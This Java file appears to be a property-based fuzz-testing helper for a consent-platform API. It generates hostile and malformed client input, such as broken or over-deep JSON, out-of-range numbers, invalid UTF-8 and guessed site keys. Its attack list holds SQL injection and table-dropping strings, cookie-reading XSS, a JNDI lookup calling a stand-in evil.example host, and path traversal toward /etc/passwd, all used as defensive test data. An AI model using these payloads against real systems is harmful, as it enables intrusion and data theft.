package io.consentplatform.api.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Generators of what hostile or broken clients send: strings meant to break out of SQL, HTML or a
 * path, numbers beyond every range, JSON that is broken, mistyped, too deep or too long, and bytes
 * that are not UTF-8.
 */
final class HostileInput {

  private static final List<String> ATTACKS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE consent_record; --",
          "1; select pg_sleep(10)",
          "\" onmouseover=\"alert(1)",
          "<script>alert(document.cookie)</script>",
          "<img src=x onerror=alert(1)>",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "../../../../etc/passwd",
          "..%2F..%2Fetc%2Fpasswd",
          "%00",
          "\u0000",
          "\uFEFF",
          "\uD83D\uDE00",
          "\u202Eevil",
          "null",
          "true",
          "[]",
          "{}",
          "-1",
          "0",
          "2147483648",
          "-9223372036854775809",
          "99999999999999999999999999999",
          "1e309",
          "NaN",
          "0x10",
          "",
          " ");

  private HostileInput() {}

  /** A string a client should never have sent. */
  static Arbitrary<String> strings() {
    return Arbitraries.oneOf(
        Arbitraries.of(ATTACKS),
        Arbitraries.strings().all().ofMinLength(0).ofMaxLength(40),
        Arbitraries.strings().withCharRange('a', 'z').ofMinLength(5_000).ofMaxLength(70_000),
        Combinators.combine(Arbitraries.of(ATTACKS), Arbitraries.strings().ofMaxLength(10))
            .as((attack, noise) -> noise + attack + noise));
  }

  /** A JSON value of any type, hostile where it is a string or a number. */
  static Arbitrary<String> jsonValues() {
    return Arbitraries.oneOf(
        strings().map(HostileInput::quote),
        Arbitraries.of(
            "null",
            "true",
            "-1",
            "1.5",
            "-9223372036854775809",
            "1e309",
            "[]",
            "{}",
            "[1,2,3]",
            "{\"a\":{\"b\":{\"c\":1}}}"),
        Arbitraries.integers().map(String::valueOf),
        Arbitraries.longs().map(String::valueOf));
  }

  /**
   * A body for an endpoint whose valid body is {@code valid}: the valid one with a field's value
   * replaced, an unknown field added, a key twice, cut short, nested too deep, or no JSON at all.
   */
  static Arbitrary<byte[]> bodies(String valid, List<String> fields) {
    Arbitrary<String> field = Arbitraries.of(fields);
    Arbitrary<String> json =
        Arbitraries.oneOf(
            Combinators.combine(field, jsonValues()).as((f, v) -> replace(valid, f, v)),
            jsonValues().map(v -> first(valid, "\"unknownField\":" + v + ",")),
            field.map(f -> first(valid, "\"" + f + "\":null,")),
            Arbitraries.integers()
                .between(1, valid.length() - 1)
                .map(cut -> valid.substring(0, cut)),
            Arbitraries.integers()
                .between(40, 3000)
                .map(depth -> "[".repeat(depth) + "]".repeat(depth)),
            jsonValues(),
            strings());
    return Arbitraries.oneOf(
        json.map(text -> text.getBytes(StandardCharsets.UTF_8)),
        Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(64),
        json.map(HostileInput::withInvalidUtf8));
  }

  /** A path segment: an attack or noise, percent-encoded so that it reaches the application. */
  static Arbitrary<String> segments() {
    return Arbitraries.oneOf(
        strings().filter(s -> !s.isEmpty() && s.length() < 300).map(HostileInput::encode),
        Arbitraries.of(
            "..", "%2e%2e", "..%2f..%2f", "%252e%252e%252f", "-1", "0", "99999999999999999999"));
  }

  /**
   * A site key that looks real (lower-case letters, digits, dashes, up to 63) but names no site, or
   * one just outside the pattern: what a bot guessing keys sends.
   */
  static Arbitrary<String> siteKeys() {
    Arbitrary<String> wellFormed =
        Combinators.combine(
                Arbitraries.strings().withCharRange('a', 'z').numeric().ofLength(1),
                Arbitraries.strings()
                    .withCharRange('a', 'z')
                    .numeric()
                    .withChars('-')
                    .ofMinLength(1)
                    .ofMaxLength(62))
            .as(String::concat);
    return Arbitraries.oneOf(
        wellFormed,
        wellFormed,
        wellFormed.map(key -> key.toUpperCase(java.util.Locale.ROOT)),
        Arbitraries.strings().withCharRange('a', 'z').ofLength(64),
        wellFormed.map(key -> "-" + key));
  }

  static String encode(String text) {
    return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static String quote(String text) {
    StringBuilder quoted = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      switch (c) {
        case '"' -> quoted.append("\\\"");
        case '\\' -> quoted.append("\\\\");
        default -> {
          if (c < 0x20) {
            quoted.append(String.format("\\u%04x", (int) c));
          } else {
            quoted.append(c);
          }
        }
      }
    }
    return quoted.append('"').toString();
  }

  /** {@code "field":<anything>} becomes {@code "field":value}; a missing field is added. */
  private static String replace(String valid, String field, String value) {
    String pattern = "\"" + field + "\":";
    int at = valid.indexOf(pattern);
    if (at < 0) {
      return first(valid, pattern + value + ",");
    }
    int start = at + pattern.length();
    int end = endOfValue(valid, start);
    return valid.substring(0, start) + value + valid.substring(end);
  }

  /** {@code text} as the first member of the object {@code json}. */
  private static String first(String json, String text) {
    return "{" + text + json.substring(1);
  }

  private static int endOfValue(String json, int start) {
    int depth = 0;
    boolean inString = false;
    for (int i = start; i < json.length(); i++) {
      char c = json.charAt(i);
      if (inString) {
        if (c == '\\') {
          i++;
        } else if (c == '"') {
          inString = false;
        }
      } else if (c == '"') {
        inString = true;
      } else if (c == '{' || c == '[') {
        depth++;
      } else if (c == '}' || c == ']') {
        if (depth == 0) {
          return i;
        }
        depth--;
      } else if (c == ',' && depth == 0) {
        return i;
      }
    }
    return json.length();
  }

  private static byte[] withInvalidUtf8(String json) {
    byte[] text = json.getBytes(StandardCharsets.UTF_8);
    byte[] broken = new byte[text.length + 2];
    int middle = text.length / 2;
    System.arraycopy(text, 0, broken, 0, middle);
    broken[middle] = (byte) 0xC3;
    broken[middle + 1] = (byte) 0x28;
    System.arraycopy(text, middle, broken, middle + 2, text.length - middle);
    return broken;
  }
}
